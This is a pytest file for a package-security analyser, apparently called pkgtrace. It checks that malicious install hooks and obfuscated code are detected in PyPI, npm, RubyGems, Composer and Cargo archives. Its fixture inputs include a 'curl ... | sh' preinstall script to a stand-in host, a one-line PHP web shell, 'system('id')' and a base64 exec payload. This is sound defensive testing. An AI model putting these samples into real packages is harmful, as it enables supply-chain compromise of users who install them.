"""Every archive kind, built by the ecosystem's own tool where it is installed here, else from
fixture bytes in the same layout, extracts and analyses correctly."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from pkgtrace.api.ossf_static import StaticRecord
from pkgtrace.ecosystems import registry_for
from pkgtrace.model import Artifact, Ecosystem
from pkgtrace.static import analyze_artifact
from static.builders import (composer_bytes, crate_bytes, gem_bytes, npm_bytes, oversized_spec_tail,
                             tar_bytes, zip_bytes)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "static"


def _need(tool: str) -> str:
    path = shutil.which(tool)
    if not path:
        pytest.skip(f"{tool} is not installed here (apt-get install it to run this test)")
    return path


def _build(tmp_path: Path, fixture: str, cmd: list[str]) -> Path:
    """Copy the fixture (builds write into their source tree) and run the real tool on it."""
    src = tmp_path / fixture
    shutil.copytree(FIXTURES / fixture, src)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    r = subprocess.run([c.replace("{out}", str(out)) for c in cmd], cwd=src, capture_output=True,
                       text=True, timeout=300)
    assert r.returncode == 0, r.stdout[-2000:] + r.stderr[-2000:]
    return out


def _analyse(eco: Ecosystem, path: Path, tmp_path: Path):
    pkg = registry_for(eco).identify_local(path)
    doc, section = analyze_artifact(Artifact.from_file(pkg, path), scratch=tmp_path / "scratch")
    StaticRecord.model_validate(doc)
    assert section["extraction"]["status"] == "ok", section["extraction"]
    assert not list((tmp_path / "scratch").iterdir())  # the scratch folder is cleaned up
    return pkg, doc, section


def _signals(section, kind, file_suffix=""):
    return [s for s in section["signals"] if s["kind"] == kind and s["file"].endswith(file_suffix)]


def _file(doc, suffix):
    match = [f for f in doc["results"]["files"] if f["filename"].endswith(suffix)]
    assert match, [f["filename"] for f in doc["results"]["files"]]
    return match[0]


def _tokens(section, suffix, language):
    """A non-JavaScript file's token lists: in the report (static.json holds OSSF's `js` only)."""
    match = [t for t in section["tokens"] if t["filename"].endswith(suffix)]
    assert match and match[0]["language"] == language, section["tokens"]
    return match[0]["tokens"]


# -- PyPI: sdist and wheel from python -m build -----------------------------------------------

@pytest.fixture(scope="module")
def pypi_dists(tmp_path_factory):
    pytest.importorskip("build", reason="the `build` package is not installed")
    tmp = tmp_path_factory.mktemp("pypi")
    out = _build(tmp, "pypi-demo", [sys.executable, "-m", "build", "--sdist", "--wheel",
                                    "--no-isolation", "--outdir", "{out}", "."])
    return {p.suffix: p for p in out.iterdir()}


def test_sdist_built_by_python_build(pypi_dists, tmp_path):
    pkg, doc, section = _analyse(Ecosystem.PYPI, pypi_dists[".gz"], tmp_path)
    assert (pkg.name, pkg.version) == ("demo-pkg", "1.0.0")
    assert section["archive"]["kind"] == "sdist-gzip"
    paths = {f["filename"] for f in doc["results"]["files"]}
    assert {"demo-pkg-1.0.0/setup.py", "demo-pkg-1.0.0/demo_pkg/__init__.py",
            "demo-pkg-1.0.0/PKG-INFO"} <= paths
    setup = _file(doc, "/setup.py")
    assert setup["detected_type"].startswith("Python script")
    assert len(setup["sha256"]) == 64 and setup["size"] > 0
    assert {"name": "PostDevelop", "type": "Class"} in [
        {k: i[k] for k in ("name", "type")} for i in _tokens(section, "/setup.py", "python")["identifiers"]]
    assert "python" not in setup  # OSSF's loader refuses fields its schema lacks
    hooks = section["install_hooks"]
    assert hooks[0]["kind"] == "setup.py" and hooks[0]["details"]["cmdclass"] is True
    assert {"exec", "b64decode"} <= set(hooks[0]["details"]["uses"])
    assert "exec(base64.b64decode(PAYLOAD))" in hooks[0]["excerpt"]
    # base64 exec: the blob, what it decodes to, and the URL inside it
    assert _signals(section, "base64", "setup.py")[0]["line"] == 8
    assert "urlopen" in _signals(section, "decoded_base64", "setup.py")[0]["value"]
    assert [s["value"] for s in _signals(section, "url", "setup.py")] == ["http://exfil.invalid/c?d="]
    assert section["calls"]["exec"] == 1 and section["calls"]["base64.b64decode"] == 1


def test_wheel_built_by_python_build(pypi_dists, tmp_path):
    pkg, doc, section = _analyse(Ecosystem.PYPI, pypi_dists[".whl"], tmp_path)
    assert section["archive"]["kind"] == "wheel"
    assert {f["filename"] for f in doc["results"]["files"]} >= {
        "demo_pkg/__init__.py", "demo_pkg-1.0.0.dist-info/METADATA", "demo_pkg-1.0.0.dist-info/RECORD"}
    init = "demo_pkg/__init__.py"
    # chr()-joined strings decode to the address they hide
    codes = [s["value"] for s in _signals(section, "char_codes", init)]
    assert codes == ["http://192.0.2.10", "https://"]
    assert {"kind": "ip", "value": "192.0.2.10", "via": "char_codes"}.items() <= \
        _signals(section, "ip", init)[0].items()
    # the \x-escaped string, with its Levenshtein distance
    esc = _file(doc, init)["escaped_strings"][0]
    assert esc["value"] == "import os; os.system" and esc["levenshtein_dist"] == 100
    # version numbers are not IP addresses (OSSF's fault, fixed)
    assert all(s["value"] not in ("1.2.3.4", "2.0.1.7") for s in _signals(section, "ip"))


# -- npm: npm pack ----------------------------------------------------------------------------

def _npm_tgz(tmp_path) -> Path:
    if shutil.which("npm"):
        out = _build(tmp_path, "npm-demo", ["npm", "pack", "--pack-destination", "{out}"])
        return next(out.glob("*.tgz"))
    pytest.skip("npm is not installed")


def test_npm_tgz_built_by_npm_pack(tmp_path):
    tgz = _npm_tgz(tmp_path)
    pkg, doc, section = _analyse(Ecosystem.NPM, tgz, tmp_path)
    assert (pkg.name, pkg.version) == ("demo-npm-fixture", "1.0.0")
    assert section["archive"]["kind"] == "npm-tgz"
    kinds = [(h["kind"], h["file"]) for h in section["install_hooks"]]
    assert kinds == [("npm-script", "package/package.json"), ("npm-script-file", "package/install.js")]
    assert section["install_hooks"][0]["details"] == {"script": "postinstall",
                                                      "command": "node install.js"}
    js = _file(doc, "install.js")
    hexes = {s["name"] for s in js["suspicious_identifiers"] if s["rule"] == "hex"}
    assert hexes == {"_0x3f2a", "_0x1b7c", "_0x4d2e", "_0x5a91", "_0x2c44"}
    assert js["js"]["string_literals"][0]["value"] == "http://203.0.113.5/c"
    assert js["urls"] == ["http://203.0.113.5/c"] and js["ip_addresses"] == ["203.0.113.5"]
    assert js["escaped_strings"][0]["levenshtein_dist"] == 86
    assert {"name": "_0x3f2a", "type": "Variable"}.items() <= js["js"]["identifiers"][0].items()


def test_npm_tgz_from_fixture_bytes_preinstall(tmp_path, analyse):
    data = npm_bytes("pre", "0.0.1", {"x.sh": b"curl -s http://198.51.100.2/p | sh\n"},
                     {"preinstall": "sh ./x.sh", "install": "node-gyp rebuild"})
    doc, section = analyse(data, Ecosystem.NPM, "pre-0.0.1.tgz")
    hooks = [(h["kind"], h["details"].get("script"), h["file"]) for h in section["install_hooks"]]
    assert hooks == [("npm-script", "preinstall", "package/package.json"),
                     ("npm-script-file", "preinstall", "package/x.sh"),
                     ("npm-script", "install", "package/package.json")]
    assert _file(doc, "x.sh")["urls"] == ["http://198.51.100.2/p"]
    assert "shell" not in _file(doc, "x.sh") and _tokens(section, "x.sh", "shell")


# -- RubyGems: gem build ----------------------------------------------------------------------

def test_gem_built_by_gem_build(tmp_path):
    _need("gem")
    out = _build(tmp_path, "gem-demo", ["sh", "-c", "gem build demo_gem.gemspec && mv *.gem {out}/"])
    gem = next(out.glob("*.gem"))
    pkg, doc, section = _analyse(Ecosystem.RUBYGEMS, gem, tmp_path)
    assert (pkg.name, pkg.version) == ("demo_gem", "0.1.0")
    assert section["archive"]["kind"] == "gem"
    assert {f["filename"] for f in doc["results"]["files"]} == {
        "ext/demo_gem/extconf.rb", "lib/demo_gem.rb", "metadata.gz"}
    hook = section["install_hooks"][0]
    assert (hook["kind"], hook["file"], hook["details"]["declared_in"]) == \
        ("gem-extension", "ext/demo_gem/extconf.rb", "metadata.gz")
    assert "Net::HTTP.post" in hook["excerpt"]
    ext = _file(doc, "extconf.rb")
    assert ext["urls"] == ["http://198.51.100.23/collect"]
    assert {"data", "ENV"} & {i["name"] for i in _tokens(section, "extconf.rb", "ruby")["identifiers"]}
    assert [s["value"] for s in _signals(section, "char_codes", "lib/demo_gem.rb")] == ["http://198.51"]


def test_gem_from_fixture_bytes(tmp_path, analyse):
    data = gem_bytes("fx", "1.0.0", {"lib/fx.rb": b"system('id')\n", "ext/fx/extconf.rb": b"x=1\n"},
                     ["ext/fx/extconf.rb"])
    doc, section = analyse(data, Ecosystem.RUBYGEMS, "fx-1.0.0.gem")
    assert section["archive"]["kind"] == "gem"
    assert [h["file"] for h in section["install_hooks"]] == ["ext/fx/extconf.rb"]
    assert section["calls"] == {"system": 1}


def test_gem_whose_metadata_is_padded_past_the_limit(tmp_path, analyse):
    # The extension its spec declares before the padding is still found, from the head kept.
    data = gem_bytes("fx", "1.0.0", {"ext/fx/extconf.rb": b"x=1\n"}, ["ext/fx/extconf.rb"],
                     spec_tail=oversized_spec_tail("padding"))
    doc, section = analyse(data, Ecosystem.RUBYGEMS, "fx-1.0.0.gem")
    assert section["extraction"]["status"] == "partial"
    assert [(e["kind"], e["path"]) for e in section["extraction"]["errors"]] == [("limit", "metadata.gz")]
    assert {f["filename"] for f in doc["results"]["files"]} == {"ext/fx/extconf.rb", "metadata.gz"}
    assert [(h["file"], h["details"]["declared_in"]) for h in section["install_hooks"]] == \
        [("ext/fx/extconf.rb", "metadata.gz")]


# -- Packagist: composer archive --------------------------------------------------------------

def test_composer_zip_built_by_composer_archive(tmp_path):
    _need("composer")
    out = _build(tmp_path, "composer-demo", ["composer", "archive", "--format=zip", "--dir={out}",
                                             "--file=demo-plugin-1.0.0", "--no-interaction"])
    z = next(out.glob("*.zip"))
    pkg, doc, section = _analyse(Ecosystem.PACKAGIST, z, tmp_path)
    assert (pkg.name, pkg.version) == ("pkgtrace/demo-plugin", "1.0.0")
    assert section["archive"]["kind"] == "composer-zip"
    kinds = {(h["kind"], h["details"].get("event")) for h in section["install_hooks"]}
    assert kinds == {("composer-script", "post-install-cmd"), ("composer-plugin", None)}
    php = _file(doc, "src/Plugin.php")
    assert php["base64_strings"] == ["ZWNobyAicGtndHJhY2UgZml4dHVyZSI7"]
    assert php["urls"] == ["http://203.0.113.9/x?h="]
    assert {"name": "postInstall", "type": "Function"}.items() <= \
        next(i for i in _tokens(section, "src/Plugin.php", "php")["identifiers"] if i["name"] == "postInstall").items()
    assert [s["value"] for s in _signals(section, "char_codes", "Plugin.php")] == ["http://e.i"]
    assert {"eval", "base64_decode"} <= set(section["calls"])


def test_composer_zip_from_fixture_bytes_with_top_folder(tmp_path, analyse):
    data = composer_bytes("acme/x", {"src/a.php": b"<?php system($_GET['c']);"},
                          {"scripts": {"post-update-cmd": "php -r \"echo 1;\""}}, top="acme-x-1a2b/")
    doc, section = analyse(data, Ecosystem.PACKAGIST, "acme-x-1.0.zip")
    assert [(h["kind"], h["details"]["event"]) for h in section["install_hooks"]] == \
        [("composer-script", "post-update-cmd")]
    assert section["summary"]["languages"] == {"php": 1}


# -- crates.io: cargo package -----------------------------------------------------------------

def test_crate_built_by_cargo_package(tmp_path):
    _need("cargo")
    src_out = _build(tmp_path, "crate-demo", ["cargo", "package", "--no-verify", "--allow-dirty",
                                              "--offline"])
    crate = next((tmp_path / "crate-demo" / "target" / "package").glob("*.crate"))
    assert src_out.exists()
    pkg, doc, section = _analyse(Ecosystem.CRATES, crate, tmp_path)
    assert (pkg.name, pkg.version) == ("demo-crate", "0.1.0")
    assert section["archive"]["kind"] == "crate"
    hook = section["install_hooks"][0]
    assert (hook["kind"], hook["file"]) == ("build.rs", "demo-crate-0.1.0/build.rs")
    rs = _file(doc, "build.rs")
    assert rs["urls"] == ["http://192.0.2.44:8080/b"] and rs["ip_addresses"] == ["192.0.2.44"]
    assert {"Command::new", "format"} <= set(section["calls"])


def test_crate_from_fixture_bytes_proc_macro(tmp_path, analyse):
    data = crate_bytes("pm", "0.1.0", {"src/lib.rs": b"pub fn x() {}\n"})
    data = tar_bytes({"pm-0.1.0/Cargo.toml": b'[package]\nname="pm"\nversion="0.1.0"\n'
                      b'[lib]\nproc-macro = true\n', "pm-0.1.0/src/lib.rs": b"pub fn x() {}\n",
                      "pm-0.1.0/build.rs": b'fn main() { let _ = std::env::var("HOME"); }\n'})
    doc, section = analyse(data, Ecosystem.CRATES, "pm-0.1.0.crate")
    assert [(h["kind"], h["file"]) for h in section["install_hooks"]] == [
        ("build.rs", "pm-0.1.0/build.rs"), ("proc-macro", "pm-0.1.0/src/lib.rs")]


# -- old-style sdist zip and .tar.bz2 ---------------------------------------------------------

@pytest.mark.parametrize("kind", ["zip", "bz2"])
def test_sdist_zip_and_bz2(tmp_path, analyse, kind):
    files = {"old-0.1/setup.py": b"import os\nos.system('echo hi')\nfrom distutils.core import setup\n",
             "old-0.1/PKG-INFO": b"Name: old\nVersion: 0.1\n"}
    data = zip_bytes(files) if kind == "zip" else tar_bytes(files, "bz2")
    doc, section = analyse(data, Ecosystem.PYPI, f"old-0.1.{'zip' if kind == 'zip' else 'tar.bz2'}")
    assert section["archive"]["kind"] == ("sdist-zip" if kind == "zip" else "sdist-bzip2")
    assert section["install_hooks"][0]["details"]["uses"] == ["os.system"]
